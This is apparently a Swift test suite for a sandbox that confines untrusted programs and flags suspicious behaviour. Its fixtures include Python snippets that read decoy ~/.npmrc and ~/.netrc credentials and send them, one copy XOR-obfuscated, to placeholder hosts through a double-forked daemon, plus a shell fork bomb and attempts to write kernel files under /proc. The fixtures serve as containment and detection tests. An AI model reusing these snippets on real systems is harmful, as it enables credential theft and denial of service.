import Evidence
import Glibc
import TestSupport
import Testing

@testable import Sandbox
@testable import box_probe

@Suite("Box", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct BoxTests {
  @Test("shows its own user, host, home and processes, and nothing of ours")
  func view() throws {
    let result = try TestBox.shell(
      "id -u; hostname; echo $HOME; ls -A ~ /tmp; ls /proc | grep -c '^[0-9]'; tr '\\0' ' ' < /proc/1/cmdline; ls /root"
    ).run()
    #expect(result.exit == .exited(2))
    #expect(result.tier == .namespaces)
    #expect(Array(result.lines.prefix(3)) == ["1000", "laptop", "/home/dev"])
    #expect(!result.text.contains("pratique"))
    #expect(result.errorText.contains("/root"))
    #expect(result.warnings.isEmpty)
  }

  @Test(
    "tells of the command's end as it was",
    arguments: [
      ("exit 7", BoxResult.Exit.exited(7)), ("kill -TERM $$", .signalled(15)), ("true", .exited(0)),
    ])
  func end(script: String, exit: BoxResult.Exit) throws {
    #expect(try TestBox.shell(script).run().exit == exit)
  }

  @Test("refuses to write outside of the private directories", arguments: [0, 1000] as [UInt32])
  func readOnly(user: UInt32) throws {
    var box = TestBox.shell(
      "for f in /usr/x /etc/x /x /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger; do "
        + "(: > $f) 2>/dev/null && echo wrote $f; done; id -u; echo y > ~/y; echo z > /tmp/z")
    box.plan.user = .init(user: user, group: user)
    let result = try box.run()
    // The masked one is a device that takes everything and does nothing.
    #expect(result.lines.filter { $0 != "wrote /proc/sysrq-trigger" } == ["\(user)"])
    #expect(result.created.files.map(\.path) == ["/home/dev/y", "/tmp/z"])
  }

  @Test("reads back what was left behind, and follows no link out")
  func created() throws {
    let result = try TestBox.shell("mkdir -p a/b; echo text > a/b/c; ln -s /etc/passwd link; echo changed > planted")
      .decoy("planted").decoy("untouched").run()
    let files = result.created.files
    #expect(files.map(\.path) == ["/home/dev/a/b/c", "/home/dev/link", "/home/dev/planted"])
    #expect(result.created.contents(of: files[0], limit: 100) == Array("text\n".utf8))
    #expect(result.created.contents(of: files[0], limit: 2) == Array("te".utf8))
    #expect(result.created.contents(of: files[1], limit: 100) == nil)
  }

  @Test(
    "lists whatever a program leaves, opens only files, and never waits",
    .enabled(if: Machine.hasPython, Machine.noPython))
  func hostileFiles() throws {
    let result = try TestBox.python(
      #"""
      import os, socket
      os.mkfifo("pipe")
      socket.socket(socket.AF_UNIX).bind("socket")
      try: os.mknod("device", 0o20666, os.makedev(1, 3)); print("made")
      except OSError as error: print(error.errno)
      for name in (b"\xff\xfe", b"n" * 255, b"line\nfeed", b"\x1b[31mred", "ümlaut".encode()):
        with open(name, "wb") as file: file.write(b"content of " + name[:4])
      os.mkdir(b"\xff-folder"); open(b"\xff-folder/inner", "w").write("inside")
      with open("sparse", "wb") as file:
        try: file.truncate(1 << 40); print("sparse")
        except OSError as error: print(error.errno)
        file.truncate(400 << 20)
      os.mkdir("locked"); open("locked/secret", "w").write("kept"); os.chmod("locked/secret", 0); os.chmod("locked", 0)
      """#
    ).run()
    #expect(result.errorText == "")
    #expect(result.lines == ["\(EPERM)", "\(EFBIG)"])
    let created = result.created
    func content(_ path: String) -> String? {
      created.files.first { $0.path == "/home/dev/" + path }.flatMap { created.contents(of: $0, limit: 100) }
        .map { String(decoding: $0, as: UTF8.self) }
    }
    #expect(content("pipe") == nil && content("socket") == nil)
    #expect(created.files.contains { $0.path == "/home/dev/pipe" && !$0.isRegular })
    #expect(content("\\xFF\\xFE") == "content of \u{FFFD}\u{FFFD}")
    #expect(content("\\xFF-folder/inner") == "inside")
    #expect(content(String(repeating: "n", count: 255)) == "content of nnnn")
    #expect(content("line\nfeed") == "content of line")
    #expect(content("\u{1B}[31mred") == "content of \u{1B}[31")
    #expect(content("ümlaut") == "content of üml")
    #expect(content("locked/secret") == "kept")
    #expect(content("sparse")?.utf8.count == 100)
  }

  @Test(
    "bounds what a program leaves by size, by number and by depth", .enabled(if: Machine.hasPython, Machine.noPython))
  func floodOfFiles() throws {
    var box = TestBox.python(
      """
      import os
      os.mkdir("many"); made = 0
      try:
        for n in range(1000000):
          os.close(os.open("many/%d" % n, os.O_CREAT | os.O_WRONLY)); made += 1
      except OSError as error: print(error.errno, made)
      try:
        with open("/tmp/big", "wb") as file:
          while True: file.write(bytes(1 << 20))
      except OSError as error: print(error.errno)
      os.chdir("/run")
      depth = 0
      try:
        while depth < 2000: os.mkdir("d"); os.chdir("d"); depth += 1
      except OSError: pass
      print(depth)
      """)
    // What the limit of inodes leaves of a million.
    box.plan.watchesOpens = false
    box.plan.trees.removeAll { $0.target == "/run" || $0.target == "/tmp" }
    box.plan.trees += [.init("/run", bytes: 8 << 20), .init("/tmp", bytes: 32 << 20)]
    let result = try box.run()
    #expect(result.errorText == "")
    let words = result.text.split(whereSeparator: \.isWhitespace).compactMap { Int($0) }
    #expect(words.count == 4)
    #expect(words.first == Int(ENOSPC) && words.dropFirst().first.map { $0 < 200_000 } == true)
    #expect(words.dropFirst(2).first == Int(ENOSPC))
    #expect(words.last == 2_000)
    #expect(result.created.isTruncated)
    #expect(result.created.files.count <= box.plan.limits.createdFiles)
  }

  @Test("lays a planted file over one of a read-only mount, for itself alone")
  func covers() throws {
    let directory = TemporaryDirectory()
    chmod(directory.path, 0o755)
    directory.write("file", "theirs")
    var box = TestBox.shell("cat /opt/mounted/file; ls -a /")
    box.plan.mounts.append(.init(directory.path, at: "/opt/mounted"))
    box.plan.files.append(.init("/opt/mounted/file", Array("ours\n".utf8)))
    let result = try box.run()
    #expect(result.lines.first == "ours")
    #expect(!result.text.contains("cover"))
    #expect(FileStatus.text(directory.path + "/file") == "theirs")
  }

  @Test("names a missing source, a relative path and a missing program")
  func wrongPlans() throws {
    var missing = TestBox.shell("true")
    missing.plan.mounts.append(.init("/nonexistent/source"))
    var relative = TestBox.shell("true")
    relative.plan.files.append(.init("../etc/passwd", []))
    for (box, step) in [(missing, "open-mount"), (relative, "path"), (TestBox(["/nonexistent"]), "execute")] {
      let error = #expect(throws: SandboxError.self) { try box.run() }
      #expect(error?.step == step)
      #expect(error?.code == .plan)
    }
  }

  @Test("keeps the first bytes of an output without end and counts the rest")
  func output() throws {
    var box = TestBox.shell("head -c 3000000 /dev/zero; head -c 10 /dev/zero >&2")
    box.plan.limits.output = 1_000
    let result = try box.run()
    #expect(result.exit == .exited(0))
    #expect(result.standardOutput.bytes.count == 1_000)
    #expect(result.standardOutput.total == 3_000_000)
    #expect(result.standardError.isComplete)
  }

  @Test("ends a command that takes too long, too much or is cancelled")
  func budgets() throws {
    var slow = TestBox.shell("mkfifo f; read x < f")
    slow.plan.limits.wallClock = 400
    #expect(try slow.run().exit == .stopped(.wallClock))
    var busy = TestBox.shell("(while :; do :; done) & while :; do :; done")
    busy.plan.limits.processorTime = 500
    let used = try busy.run().exit
    // The kernel's limit is for one process; ours is for all.
    #expect(used == .stopped(.processorTime) || used == .signalled(Int(SIGKILL)))
    let cancellation = Box.Cancellation()
    cancellation.cancel()
    #expect(try Box.run(slow.plan, network: slow.network, cancellation: cancellation).exit == .stopped(.cancelled))
  }

  @Test("stops a storm of forks at the limit", .enabled(if: Machine.hasPython, Machine.noPython))
  func forks() throws {
    let result = try TestBox.python(
      """
      import os, signal
      n = 0
      try:
        for _ in range(1500):
          if os.fork() == 0:
            signal.pause()
          n += 1
      except OSError: pass
      print(n, flush=True)
      os._exit(0)
      """
    ).run()
    let count = try #require(result.lines.first.flatMap { Int($0) })
    #expect(count > 100 && count < 256)
  }

  @Test("ends a program that starts itself again and again")
  func generations() throws {
    var box = TestBox.shell("echo '/bin/sh /home/dev/bomb & /bin/sh /home/dev/bomb' > bomb; exec /bin/sh bomb")
    box.plan.limits.processes = 300
    box.plan.limits.wallClock = 20_000
    let result = try box.run()
    #expect(result.processes.count >= 200)
    #expect(result.exit == .stopped(.processes) || result.exit != .stopped(.wallClock))
  }

  @Test(
    "knows who started whom, when both parents of a daemon are gone", .enabled(if: Machine.hasPython, Machine.noPython))
  func daemon() throws {
    let box = TestBox.python(
      """
      import os, socket, sys, time
      data = open("/home/dev/.npmrc", "rb").read()
      if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
          time.sleep(0.02)
          s = socket.create_connection(("203.0.113.5", 8080), timeout=5)
          s.sendall(data)
          os._exit(0)
        os._exit(0)
      """
    ).decoy(".npmrc")
    let result = try box.run()
    let exchanges = box.network.stop()
    #expect(exchanges.map(\.payload) == ["worthless"])
    let connect = try #require(
      result.events.first { if case .connect = $0.action { true } else { false } })
    let stage = ObservationStage(
      phase: .startup, name: "", persona: "", processes: result.processes, events: result.events)
    #expect(stage.chain(of: connect).count == 3)
    #expect(result.has(.taintedEgress))
  }

  @Test("answers sleep calls at once", .enabled(if: Machine.hasPython, Machine.noPython))
  func sleep() throws {
    let result = try TestBox.python("import time, os\ntime.sleep(3600)\nos.system('sleep 3600')").run()
    #expect(result.exit == .exited(0))
    #expect(result.duration < 20_000_000)
    let slept = result.events.compactMap { if case .sleep(let time, _, true) = $0.action { time } else { nil } }
    #expect(slept.count == 2 && slept.allSatisfy { $0 > 3_590_000 && $0 <= 3_600_000 })
  }

  @Test("says which startup file an event is because of", .enabled(if: Machine.hasPython, Machine.noPython))
  func because() throws {
    var box = TestBox([Machine.python, "-c", "open('/home/dev/later')"])
    box.plan.environment["PYTHONPATH"] = "/home/dev/site"
    box.plan.files.append(
      .init("/home/dev/site/sitecustomize.py", Array("open('/etc/hostname.not')".utf8)))
    let result = try box.run()
    let event = try #require(result.events.first { $0.action == .open(path: "/etc/hostname.not", writes: false) })
    #expect(event.because == "/home/dev/site/sitecustomize.py")
  }

  @Test("changes a snapshot of what lies outside, and a mount that it may write to, and nothing else")
  func snapshots() throws {
    let directory = TemporaryDirectory()
    chmod(directory.path, 0o755)
    let outer = Box.outerUser
    for name in ["venv/kept", "venv/changed", "venv/inner/gone", "out/first"] { directory.write(name, "old\n") }
    for name in ["venv", "venv/kept", "venv/changed", "venv/inner", "venv/inner/gone", "out"] {
      chown("\(directory.path)/\(name)", outer.user, outer.group)
    }
    var box = TestBox.shell(
      "cd /opt/venv && echo new > changed && rm inner/gone && echo x > made && ls . inner && cat kept "
        + "&& echo y > /out/second; ls -A /")
    box.plan.trees.append(.init("/opt/venv", bytes: 16 << 20, mode: 0o755, over: directory.path + "/venv"))
    box.plan.mounts.append(.init(directory.path + "/out", at: "/out", isReadOnly: false))
    let result = try box.run()
    #expect(result.errorText == "")
    #expect(result.text.hasPrefix(".:\nchanged\ninner\nkept\nmade\n\ninner:\nold\n"))
    #expect(!result.text.contains("layers"))
    let files = result.created.files
    #expect(files.map(\.path) == ["/opt/venv/changed", "/opt/venv/inner/gone", "/opt/venv/made"])
    #expect(files.map(\.isRemoval) == [false, true, false])
    if let first = files.first { #expect(result.created.contents(of: first, limit: 9) == Array("new\n".utf8)) }
    #expect(FileStatus.text(directory.path + "/venv/changed") == "old")
    #expect(FileStatus.text(directory.path + "/venv/inner/gone") == "old")
    #expect(FileStatus.text(directory.path + "/out/second") == "y")
  }

  @Test("tells of programs that ran, and of one that is nowhere once, whatever a search path makes of it")
  func searches() throws {
    let result = try TestBox.shell(
      """
      PATH=/nowhere:/tmp:/usr/local/bin:/usr/bin:/bin
      python3 -c 'import os
      try: os.execvp("no-such-program", ["x"])
      except OSError: pass
      os.execvp("true", ["true"])'
      echo '#!/nowhere/interpreter' > /tmp/script; chmod 755 /tmp/script; /tmp/script; /bin/echo done
      """
    ).run()
    let programs = result.events.compactMap {
      if case .execute(let program, _) = $0.action { program } else { nil }
    }
    #expect(programs.map { $0.split(separator: "/").last } == ["sh", "python3", "true", "chmod", "echo"])
    let failed = result.events.compactMap { if case .refuse("execve", let detail) = $0.action { detail } else { nil } }
    #expect(failed.count == 2)
    #expect(failed.first == "no-such-program: No such file or directory")
    #expect(failed.last?.hasPrefix("/tmp/script: ") == true)
    #expect(result.processes.allSatisfy { $0.program?.hasPrefix("/nowhere") != true })
    #expect(!result.has(.evasive))
  }

  @Test("tells what a process became, though the supervisor cannot follow the path")
  func hiddenProgram() throws {
    // A link to whoever asks, in a directory of processes in which the supervisor is none.
    let result = try TestBox.shell("ln -s /proc/self/exe /tmp/me; exec /tmp/me -c 'echo again'").run()
    #expect(result.lines == ["again"])
    let programs = result.events.compactMap {
      if case .execute(let program, _) = $0.action { program } else { nil }
    }
    #expect(programs.count == 3)
  }

  @Test("tells of what was renamed and linked")
  func changes() throws {
    let result = try TestBox.shell("mv a b; ln -s x y").decoy("a").run()
    let changes = result.events.compactMap {
      if case .change(_, let path, let destination) = $0.action { "\(path) \(destination ?? "")" } else { nil }
    }
    #expect(changes == ["/home/dev/a /home/dev/b", "x /home/dev/y"])
    #expect(result.events.contains { $0.action == .touch(decoy: "a", how: .moved) })
  }

  @Test(
    "lets an inspector see files before they go, and memory before it is sent",
    .enabled(if: Machine.hasPython, Machine.noPython))
  func inspector() throws {
    let box = TestBox.python(
      """
      import os, socket
      data = open("/home/dev/.netrc").read()
      with open("/tmp/archive", "w") as file: file.write("packed " + data)
      os.unlink("/tmp/archive")
      sealed = bytes(ord(c) ^ 0x55 for c in data)
      socket.create_connection(("203.0.113.7", 443)).sendall(sealed)
      """
    ).decoy(".netrc", "a-secret-of-this-run")
    let result = try Box.run(box.plan, network: box.network, inspector: Finder(canary: "a-secret-of-this-run"))
    #expect(result.errorText == "")
    let details = result.evidence.filter { $0.level == .staged }.map(\.detail)
    #expect(details == ["/tmp/archive", "memory"])
    #expect(result.created.files.isEmpty)
  }

  /// Looks for one text in changed files, and in memory when something is sent.
  private struct Finder: BoxInspector {
    let canary: String

    func inspect(_ scene: BoxScene) -> [ObservedEvidence] {
      if scene.moment == .change {
        #expect(scene.path.flatMap { scene.file(at: $0) }?.path == "/tmp/archive")
      }
      var found = scene.changedFiles().filter { has(scene.contents(of: $0, limit: 1 << 20) ?? []) }.map(\.path)
      if scene.moment == .connect {
        var isInMemory = false
        scene.writtenMemory(limit: 256 << 20) { isInMemory = isInMemory || has($0) }
        if isInMemory { found.append("memory") }
      }
      return found.map { ObservedEvidence(level: .staged, event: nil, detail: $0) }
    }

    private func has(_ piece: UnsafeRawBufferPointer) -> Bool {
      let text = Array(canary.utf8)
      var rest = piece
      while rest.count >= text.count, let start = rest.baseAddress, let hit = memchr(start, Int32(text[0]), rest.count)
      {
        rest = UnsafeRawBufferPointer(rebasing: rest[(hit - UnsafeMutableRawPointer(mutating: start))...])
        if rest.count >= text.count, memcmp(hit, text, text.count) == 0 { return true }
        rest = UnsafeRawBufferPointer(rebasing: rest[1...])
      }
      return false
    }

    private func has(_ bytes: [UInt8]) -> Bool { String(decoding: bytes, as: UTF8.self).contains(canary) }
  }

  @Test(
    "bounds the memory of all together where control groups are to be had",
    .enabled(if: Machine.isRoot, Machine.noRoot), .enabled(if: Machine.hasPython, Machine.noPython),
    .enabled(
      if: access("/sys/fs/cgroup/memory", W_OK) == 0 || access("/sys/fs/cgroup/cgroup.subtree_control", W_OK) == 0,
      "needs control groups"))
  func memory() throws {
    var box = TestBox.python("x = bytearray(256 << 20); print(len(x))")
    box.plan.limits.totalMemory = 64 << 20
    #expect(try box.run().exit == .signalled(Int(SIGKILL)))
  }
}
